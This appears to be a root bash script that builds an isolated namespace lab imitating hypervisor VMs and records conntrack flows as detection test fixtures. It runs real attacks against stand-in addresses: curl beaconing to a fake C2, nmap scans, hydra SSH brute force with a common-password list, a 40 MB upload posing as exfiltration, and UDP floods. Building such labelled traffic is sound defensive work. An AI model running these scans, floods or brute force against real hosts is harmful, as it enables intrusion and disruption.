#!/usr/bin/env bash
# Record a real conntrack capture of a small hypervisor network (VMs on a bridge behind NAT)
# with benign background traffic and, unless --benign-only, real attacks from some VMs.
#
# usage: bash scripts/record-flow-lab.sh OUTDIR [--benign-only] [--minutes N] [--scenario segments --take a|b]
#   e.g. sudo bash scripts/record-flow-lab.sh test/fixtures/flows/lab
#        sudo bash scripts/record-flow-lab.sh test/fixtures/flows/lab --benign-only --minutes 12
#        sudo bash scripts/record-flow-lab.sh test/fixtures/flows/lab --scenario segments --take a
# Writes OUTDIR/lab.* (attacks), OUTDIR/lab-benign.* (--benign-only) or OUTDIR/lab-seg-TAKE.*
# (segments: VM-to-VM traffic, tunnels, lateral movement). See docs/flow-lab.md.
# Namespaces: hvrec-* (attacks), hvrec2-* (benign), hvseg-TAKE-* (segments): all can run at once.
# Needs root.
set -euo pipefail

usage() { sed -n '2,9p' "$0" | sed 's/^# \{0,1\}//'; }

# Everything runs inside main so that editing this file cannot disturb a running recording.
main() {

outdir="" benign_only=0 minutes="" scenario=lab take=""
while [ $# -gt 0 ]; do
  case "$1" in
    --benign-only) benign_only=1 ;;
    --minutes) minutes=${2:?--minutes needs a number}; shift ;;
    --scenario) scenario=${2:?--scenario needs lab or segments}; shift ;;
    --take) take=${2:?--take needs a or b}; shift ;;
    -h | --help) usage; exit 0 ;;
    -*) echo "unknown option: $1" >&2; usage >&2; exit 2 ;;
    *) outdir=$1 ;;
  esac
  shift
done
[ -n "$outdir" ] || { usage >&2; exit 2; }
case "$scenario/$take" in
  lab/) ;;
  segments/a | segments/b) [ $benign_only = 0 ] || { echo "record-flow-lab: --benign-only is for the lab scenario" >&2; exit 2; } ;;
  *) echo "record-flow-lab: --scenario lab, or --scenario segments with --take a or b" >&2; exit 2 ;;
esac
[ "$(id -u)" = 0 ] || { echo "record-flow-lab: needs root (network namespaces, nft, conntrack)" >&2; exit 1; }

missing=()
tools="ip nft conntrack nmap nping hping3 hydra ssh ssh-keygen dnsmasq curl python3 setsid getent"
[ "$scenario" = lab ] || tools="$tools ncat dig ping psql runuser iodine iodined ptunnel-ng"
for tool in $tools; do
  command -v "$tool" >/dev/null || missing+=("$tool")
done
[ -x /usr/sbin/sshd ] || missing+=(sshd)
[ "$scenario" = lab ] || [ -x /usr/lib/postgresql/15/bin/postgres ] || missing+=(postgres)
if [ ${#missing[@]} -gt 0 ]; then
  echo "record-flow-lab: missing tools: ${missing[*]}" >&2
  echo "  bash .ci/run installs the base tools, then: bash scripts/install-recording-tools.sh" >&2
  exit 1
fi

here=$(cd "$(dirname "$0")" && pwd)
lab=$here/flow-lab
mkdir -p "$outdir"
outdir=$(cd "$outdir" && pwd)
if [ "$scenario" = segments ]; then
  P=${HVREC_PREFIX:-hvseg-$take} base=lab-seg-$take minutes=${minutes:-10}
  [ "$minutes" -ge 9 ] || { echo "record-flow-lab: the segments scenario needs --minutes >= 9" >&2; exit 2; }
elif [ $benign_only = 1 ]; then
  P=${HVREC_PREFIX:-hvrec2} base=lab-benign minutes=${minutes:-12}
else
  P=${HVREC_PREFIX:-hvrec} base=lab minutes=${minutes:-7}
  [ "$minutes" -ge 6 ] || { echo "record-flow-lab: attack run needs --minutes >= 6" >&2; exit 2; }
fi
work=$(mktemp -d "/tmp/$P.XXXXXX")
H=$P-host I=$P-inet
RMEM=16777216     # receive buffer for conntrack's event socket
TAIL_S=${HVREC_TAIL_S:-75}         # keep recording after traffic stops so DESTROY events arrive

# name ip mac-suffix seed ntp-period ssh download-MB
VMS=(
  "ci-runner01 10.77.0.10 10 101 64 1 0"
  "devbox01 10.77.0.11 11 102 32 0 0"
  "jump01 10.77.0.12 12 103 64 1 0"
  "web01 10.77.0.13 13 104 16 0 0"
  "db01 10.77.0.14 14 105 64 1 0"
  "game01 10.77.0.15 15 106 32 0 60"
  "mail01 10.77.0.16 16 107 64 0 0"
)
if [ "$scenario" = segments ]; then
  source "$lab/segments.sh"
  VMS=("${SEGMENT_VMS[@]}")
fi
vm_ns() { echo "$P-vm$1"; }

pgroups=() old_rmem=""
cleanup() {
  set +e
  [ -z "${old_rmem:-}" ] || sysctl -qw net.core.rmem_default="$old_rmem"
  for g in "${pgroups[@]}"; do kill -TERM -- "-$g" 2>/dev/null; done
  for ns in $(ip netns list | awk '{print $1}' | grep -E "^$P-" ); do
    for pid in $(ip netns pids "$ns"); do kill -KILL "$pid" 2>/dev/null; done
    ip netns del "$ns"
    rm -rf "/etc/netns/$ns"
  done
  rm -rf "$work"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# start CMD... in its own process group, remembered for cleanup
bg() { setsid "$@" </dev/null >>"$work/bg.log" 2>&1 & pgroups+=($!); }
inns() { local ns=$1; shift; ip netns exec "$ns" "$@"; }
now() { date +%s.%N | cut -c1-14; }
log() { echo "[$(date -u +%H:%M:%S)] $*" >&2; }

# ---------------------------------------------------------------- topology
log "building namespaces $P-*"
for ns in $(ip netns list | awk '{print $1}' | grep -E "^$P-"); do ip netns del "$ns"; done
ip netns add "$H"
ip netns add "$I"
inns "$H" ip link set lo up
inns "$I" ip link set lo up
inns "$H" ip link add virbr0 type bridge
inns "$H" ip link set virbr0 address 52:54:00:77:00:01
inns "$H" ip addr add 10.77.0.1/24 dev virbr0
inns "$H" ip link set virbr0 up
for i in "${!VMS[@]}"; do
  read -r name ip mac _ <<<"${VMS[$i]}"
  ns=$(vm_ns "$i")
  ip netns add "$ns"
  ip link add "vnet$i" netns "$H" type veth peer name eth0 netns "$ns"
  inns "$H" ip link set "vnet$i" address "fe:54:00:77:00:$mac" master virbr0 up
  inns "$ns" ip link set eth0 address "52:54:00:77:00:$mac"
  inns "$ns" ip addr add "$ip/24" dev eth0
  inns "$ns" ip link set eth0 up
  inns "$ns" ip link set lo up
  inns "$ns" ip route add default via 10.77.0.1
  mkdir -p "/etc/netns/$ns"
  echo "nameserver 10.77.0.1" >"/etc/netns/$ns/resolv.conf"
  printf '127.0.0.1 localhost\n%s %s\n' "$ip" "$name" >"/etc/netns/$ns/hosts"
done
ip link add uplink0 netns "$H" type veth peer name eth0 netns "$I"
inns "$H" ip addr add 10.99.0.2/24 dev uplink0
inns "$H" ip link set uplink0 up
inns "$H" ip route add default via 10.99.0.1
inns "$I" ip addr add 10.99.0.1/24 dev eth0
inns "$I" ip link set eth0 up
# Servers' addresses live on lo; the rest of each /24 is a silent blackhole (like a filtered host).
for net in 192.0.2.0/24 198.51.100.0/24 203.0.113.0/24; do inns "$I" ip route add blackhole "$net"; done
for a in 192.0.2.10 192.0.2.11 192.0.2.12 192.0.2.20 192.0.2.123 \
  198.51.100.22 198.51.100.23 198.51.100.40 198.51.100.53 198.51.100.66 198.51.100.77 198.51.100.99 \
  198.51.100.54 203.0.113.50 203.0.113.51 203.0.113.65 203.0.113.66 203.0.113.70 203.0.113.200; do
  inns "$I" ip addr add "$a/32" dev lo
done
inns "$H" sysctl -qw net.ipv4.ip_forward=1
# VM-to-VM frames cross only the bridge; the segments scenario has them pass the IP hooks (and
# so conntrack) with br_netfilter, as a host must for hv to see VM-to-VM flows.
if [ "$scenario" = segments ]; then
  inns "$H" sysctl -qw net.bridge.bridge-nf-call-iptables=1 || { echo "record-flow-lab: br_netfilter is needed (modprobe br_netfilter)" >&2; exit 1; }
fi

# libvirt-style NAT, and a filter that uses ct (conntrack events need a ct user in the netns).
inns "$H" nft -f - <<'EOF'
table ip hvrec_nat {
  chain postrouting {
    type nat hook postrouting priority srcnat; policy accept;
    ip saddr 10.77.0.0/24 ip daddr 224.0.0.0/24 return
    ip saddr 10.77.0.0/24 ip daddr 255.255.255.255 return
    meta l4proto { tcp, udp } ip saddr 10.77.0.0/24 ip daddr != 10.77.0.0/24 masquerade to :1024-65535
    ip saddr 10.77.0.0/24 ip daddr != 10.77.0.0/24 masquerade
  }
}
table inet hvrec_filter {
  chain forward {
    type filter hook forward priority filter; policy accept;
    ct state established,related counter accept
    ct state invalid counter
    counter
  }
}
EOF
# Per-namespace conntrack settings: byte/packet counters, start/stop timestamps, events,
# and shorter TCP close timeouts so DESTROY follows the end of a flow within ~10-30 s.
for kv in nf_conntrack_acct=1 nf_conntrack_timestamp=1 nf_conntrack_events=1 \
  nf_conntrack_tcp_timeout_time_wait=10 nf_conntrack_tcp_timeout_close=10 \
  nf_conntrack_tcp_timeout_fin_wait=20 nf_conntrack_tcp_timeout_close_wait=20 \
  nf_conntrack_tcp_timeout_last_ack=10 nf_conntrack_tcp_timeout_syn_sent=30 \
  nf_conntrack_tcp_timeout_syn_recv=30 nf_conntrack_udp_timeout=30 nf_conntrack_udp_timeout_stream=60; do
  inns "$H" sysctl -qw "net.netfilter.$kv"
done

# ---------------------------------------------------------------- servers
log "starting servers"
ssh-keygen -q -t ed25519 -N '' -f "$work/ssh_host_ed25519_key"
ssh-keygen -q -t ed25519 -N '' -f "$work/client_key"
cp "$work/client_key.pub" "$work/authorized_keys"
cat >"$work/sshd_config" <<EOF
Port 22
ListenAddress 0.0.0.0
HostKey $work/ssh_host_ed25519_key
PidFile $work/sshd.pid
AuthorizedKeysFile $work/authorized_keys
StrictModes no
PermitRootLogin prohibit-password
PasswordAuthentication yes
KbdInteractiveAuthentication no
UsePAM no
MaxAuthTries 3
MaxStartups 200:30:400
LoginGraceTime 20
EOF
mkdir -p /run/sshd
srv="python3 $lab/servers.py"
bg ip netns exec "$I" /usr/sbin/sshd -D -e -f "$work/sshd_config"
bg ip netns exec "$I" $srv http --port 80 --bind 192.0.2.10 --bind 192.0.2.11 --bind 192.0.2.20 \
  --bind 203.0.113.200 --bind 203.0.113.50 --bind 203.0.113.51
bg ip netns exec "$I" $srv http --port 443 --bind 192.0.2.12 --bind 198.51.100.40 \
  --bind 198.51.100.66 --bind 198.51.100.99 --bind 203.0.113.50
bg ip netns exec "$I" $srv http --port 8080 --bind 203.0.113.50
bg ip netns exec "$I" $srv dns --bind 198.51.100.53
bg ip netns exec "$I" $srv udp --bind 192.0.2.123 --port 123 --reply 48
bg ip netns exec "$I" $srv udp --bind 198.51.100.77 --port 9000
# Host: dnsmasq as the VMs' resolver (like libvirt's), a package cache, a metrics scraper.
# In the segments scenario t1.example.net is delegated to the iodine server (as a tunnel's owner would).
bg ip netns exec "$H" dnsmasq -k --conf-file=/dev/null --listen-address=10.77.0.1 --bind-interfaces \
  --no-resolv --no-hosts --server=198.51.100.53 --server=/t1.example.net/198.51.100.54 --cache-size=150 \
  --pid-file="$work/dnsmasq.pid"
bg ip netns exec "$H" $srv http --port 3142 --bind 10.77.0.1
cat >"$work/scrape.sh" <<EOF
sleep 10
while true; do
  for ip in $(printf '%s\n' "${VMS[@]}" | awk '{print $2}' | tr '\n' ' '); do curl -s --max-time 5 http://\$ip:9100/metrics >/dev/null; done
  sleep 15
done
EOF
[ "$scenario" = lab ] || segments_servers "$take"
sleep 1

# ---------------------------------------------------------------- recording
# conntrack 1.4.7 applies -b to its query socket, not to the event socket (the one joined to
# the NEW/UPDATE/DESTROY groups, shown by ss with groups=0x00000007 and a random port id), which
# keeps net.core.rmem_default (global, not settable per netns). So raise that sysctl for the
# second conntrack starts and restore it (also on failure, in cleanup).
log "starting conntrack -E in $H"
ct_version=$(conntrack --version 2>&1 | head -1)
old_rmem=$(sysctl -n net.core.rmem_default)
sysctl -qw net.core.rmem_default=$RMEM
ip netns exec "$H" conntrack -E -e NEW,DESTROY -o timestamp,extended,id -b $RMEM \
  >"$outdir/$base.conntrack.log" 2>"$work/conntrack.stderr" &
ct_pid=$!
sleep 1
sysctl -qw net.core.rmem_default="$old_rmem"
old_rmem=""
ct_rcvbuf=$(ip netns exec "$H" ss -f netlink -a -m -e 2>/dev/null | grep 'groups=0x0000000[1-7]' | grep -o 'rb[0-9]*' | tr '\n' ' ' || true)
started=$(now)
log "recording started (event socket: ${ct_rcvbuf:-unknown})"
case "$ct_rcvbuf" in rb$RMEM*) ;; *) log "WARNING: conntrack event socket buffer is not $RMEM; expect lost events" ;; esac

bg ip netns exec "$H" bash "$work/scrape.sh"
for i in "${!VMS[@]}"; do
  read -r name ip mac seed ntp ssh dl <<<"${VMS[$i]}"
  bg ip netns exec "$(vm_ns "$i")" bash "$lab/vm-benign.sh" "$seed" "$ip" "$ntp" "$ssh" "$dl" "$work"
done
[ "$scenario" = lab ] || segments_benign "$take"
end_traffic=$(( ${started%.*} + minutes * 60 ))

attacks_tsv=$work/attacks.tsv
: >"$attacks_tsv"
# record_attack KIND VM_INDEX DESTINATION START END TOOL NOTES
record_attack() {
  local name
  read -r name _ <<<"${VMS[$2]}"
  printf '%s\t%s\t%s\t%s\t%s\t%s\t%s\n' "$1" "$name" "$3" "$4" "$5" "$6" "$7" >>"$attacks_tsv"
  log "attack $1 from $name to $3: $(awk "BEGIN{printf \"%.1f\", $5-$4}") s"
}
sleep_until() { local t=$(( ${started%.*} + $1 - $(date +%s) )); [ $t -le 0 ] || sleep $t; }

beaconing() { # vm3 web01: 20 beats to a C2 by name, every 8 s +-15%
  local s e ns; ns=$(vm_ns 3); s=$(now)
  for b in $(seq 1 20); do
    inns "$ns" curl -s --max-time 5 "http://update-check.example.net/api/v2/check?host=web01&n=$b" >/dev/null || true
    [ "$b" = 20 ] || sleep "$(awk -v r=$RANDOM 'BEGIN{printf "%.2f", 8 * (0.85 + 0.30 * r / 32767)}')"
  done
  e=$(now)
  record_attack beaconing 3 203.0.113.200 "$s" "$e" curl \
    "20 HTTP GETs to update-check.example.net:80 (DNS via dnsmasq), period 8 s +-15% uniform jitter"
}
port_scan() { # vm1 devbox01: vertical SYN scan, connect scan, horizontal sweep
  local s e ns; ns=$(vm_ns 1); s=$(now)
  inns "$ns" nmap -n -sS -p 1-300 --max-rate 150 203.0.113.50 >"$work/nmap-syn.txt" 2>&1 || true
  e=$(now)
  record_attack port-scan 1 203.0.113.50 "$s" "$e" "nmap -sS" \
    "SYN scan of ports 1-300 with default host discovery, --max-rate 150; open: 22,80"
  sleep 8; s=$(now)
  inns "$ns" nmap -n -sT --top-ports 100 --max-rate 100 -Pn 203.0.113.51 >"$work/nmap-connect.txt" 2>&1 || true
  e=$(now)
  record_attack port-scan 1 203.0.113.51 "$s" "$e" "nmap -sT" \
    "connect scan of nmap's top 100 ports, -Pn, --max-rate 100; open: 22,80"
  sleep 8; s=$(now)
  inns "$ns" nmap -n -sS -Pn -p 22 --max-rate 50 203.0.113.64/28 >"$work/nmap-sweep.txt" 2>&1 || true
  e=$(now)
  record_attack port-scan 1 203.0.113.64/28 "$s" "$e" "nmap -sS -p22" \
    "horizontal sweep of port 22 over 16 addresses; .65 .66 .70 answer, the rest are silent (filtered)"
}
brute_force() { # vm2 jump01: hydra against sshd with wrong passwords
  local s e ns; ns=$(vm_ns 2)
  printf '%s\n' root admin ubuntu deploy >"$work/users.txt"
  printf '%s\n' 123456 password admin root toor qwerty letmein changeme 12345678 welcome \
    passw0rd abc123 master dragon monkey shadow sunshine trustno1 iloveyou football >"$work/passwords.txt"
  s=$(now)
  (cd "$work" && timeout 150 ip netns exec "$ns" hydra -I -L users.txt -P passwords.txt -t 4 -w 10 \
    ssh://198.51.100.22 >"$work/hydra.txt" 2>&1) || true
  e=$(now)
  record_attack brute-force 2 198.51.100.22:22 "$s" "$e" "hydra 9.4 ssh" \
    "4 users x 20 wrong passwords (80 attempts), 4 parallel tasks; sshd MaxAuthTries 3, no PAM"
}
exfiltration() { # vm4 db01: 40 MB upload
  local s e ns; ns=$(vm_ns 4)
  head -c 40000000 /dev/urandom >"$work/dump.bin"
  s=$(now)
  inns "$ns" curl -s --max-time 120 --limit-rate 3M -X POST --data-binary @"$work/dump.bin" \
    -H 'Content-Type: application/octet-stream' http://198.51.100.99:443/upload >/dev/null || true
  e=$(now)
  record_attack large-outbound 4 198.51.100.99:443 "$s" "$e" curl \
    "one HTTP POST of 40,000,000 random bytes at ~3 MB/s to an external address (plain HTTP on 443)"
}
udp_flood() { # vm5 game01: nping (one flow) then hping3 (new source port per packet)
  local s e ns; ns=$(vm_ns 5); s=$(now)
  inns "$ns" nping --udp --send-ip -p 9000 -g 40404 --rate 800 -c 6400 --data-length 400 \
    -H -q 198.51.100.77 >"$work/nping.txt" 2>&1 || true
  inns "$ns" hping3 --udp -p 9000 -i u3333 -c 600 -d 200 -q 198.51.100.77 >"$work/hping3.txt" 2>&1 || true
  e=$(now)
  record_attack udp-flood 5 198.51.100.77:9000 "$s" "$e" "nping + hping3" \
    "nping 6400 x 400-byte UDP at 800 pps from one source port, then hping3 600 x 200 B at 300 pps with a new source port each"
}
feed_hit() { # vm6 mail01: three HTTPS-like connections to a listed address
  local s e ns; ns=$(vm_ns 6); s=$(now)
  for k in 1 2 3; do
    inns "$ns" curl -s --max-time 5 "http://198.51.100.66:443/gate.php?id=$k" >/dev/null || true
    [ $k = 3 ] || sleep 12
  done
  e=$(now)
  record_attack feed-hit 6 198.51.100.66:443 "$s" "$e" curl \
    "3 HTTP requests 12 s apart to 198.51.100.66 (listed in lab.feed.txt)"
}

if [ "$scenario" = segments ]; then
  segments_attacks "$take"
elif [ $benign_only = 0 ]; then
  sleep_until 45; beaconing & b_pid=$!
  sleep_until 60; port_scan
  sleep_until 110; brute_force
  sleep_until 190; exfiltration
  sleep_until 235; udp_flood
  sleep_until 260; feed_hit
  wait $b_pid
fi

while [ "$(date +%s)" -lt $end_traffic ]; do sleep 5; done
log "stopping traffic; waiting ${TAIL_S}s for DESTROY events"
for g in "${pgroups[@]}"; do kill -TERM -- "-$g" 2>/dev/null || true; done
pgroups=()
sleep $TAIL_S
ip netns exec "$H" conntrack -L -o extended,id >"$work/table-at-end.txt" 2>/dev/null || true
kill -INT $ct_pid; wait $ct_pid || true
ended=$(now)

# ---------------------------------------------------------------- outputs
cp "$work/conntrack.stderr" "$outdir/$base.conntrack.stderr"
if [ $benign_only = 0 ]; then
  cat >"$outdir/$base.feed.txt" <<'EOF'
# hv flow lab threat feed (plain IP list; documentation addresses only)
# addresses listed here; only 198.51.100.66 is contacted in lab.conntrack.log
198.51.100.66
203.0.113.250
192.0.2.201 ; second comment style
203.0.113.240/29
EOF
fi
python3 "$lab/summarize.py" --out "$outdir" --base "$base" --attacks "$attacks_tsv" \
  --table-at-end "$work/table-at-end.txt" --started "$started" --ended "$ended" \
  --conntrack-version "$ct_version" --kernel "$(uname -r)" --rcvbuf "${ct_rcvbuf:-unknown}" \
  --benign-only $benign_only --vms "$(printf '%s\n' "${VMS[@]}")"
log "done: $outdir/$base.*"
}

main "$@"
